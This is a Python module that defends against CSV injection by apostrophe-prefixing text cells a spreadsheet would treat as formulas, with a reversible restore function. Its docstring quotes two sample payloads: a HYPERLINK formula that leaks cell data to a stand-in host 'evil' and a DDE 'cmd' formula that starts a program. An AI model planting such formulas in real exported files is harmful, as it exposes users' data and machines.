"""CSV cells that a spreadsheet cannot run as formulas ("CSV injection", OWASP).

The tables hold text copied from the sources. Excel, LibreOffice and Google Sheets read a CSV
cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some versions, a tab or carriage
return before them) as a formula: ``=HYPERLINK("http://evil/?"&A1, "x")`` leaks data,
``=cmd|' /C calc'!A0`` asks to start a program. So the CSV copies of the tables prefix such a
text cell with an apostrophe, the mark spreadsheets themselves use for "text, not formula",
and the Parquet copies keep the exact text.

The rule is reversible: a cell that already begins with an apostrophe is prefixed too, so
``restore_csv_cell(neutralise_csv_cell(s)) == s`` for every string, and a reader of the CSV
(``tables.read_table``) gets the exact text back. Plain numbers written as text (``-3``,
``+4.5``, ``-1e-3``) are left alone: they are not formulas, and ``-`` begins many a number.
Only text columns are treated; numeric columns are written as numbers.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def needs_neutralising(s: str) -> bool:
    """Would a spreadsheet read this cell as a formula (or is it already apostrophe-marked)?"""
    if not s:
        return False
    if s[0] == "'":
        return True
    return s[0] in TRIGGERS and not _NUMBER.fullmatch(s)


def neutralise_csv_cell(s):
    """The text to write in a CSV cell: ``'`` + s when a spreadsheet would run it as a formula
    (or when it begins with ``'``), else s unchanged. Non-strings are returned as they are."""
    if isinstance(s, str) and needs_neutralising(s):
        return "'" + s
    return s


def restore_csv_cell(s):
    """The inverse of ``neutralise_csv_cell``: the exact text back from a CSV cell."""
    if isinstance(s, str) and s.startswith("'") and needs_neutralising(s[1:]):
        return s[1:]
    return s
